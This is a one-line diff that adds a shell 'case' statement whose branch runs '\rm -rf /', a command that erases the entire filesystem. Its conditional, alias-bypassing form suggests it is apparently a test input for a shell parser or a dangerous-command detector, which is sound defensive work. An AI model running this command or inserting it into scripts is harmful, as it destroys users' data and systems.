@@ -1,0 +1,1 @@
+case $a in x) \rm -rf / ;; esac
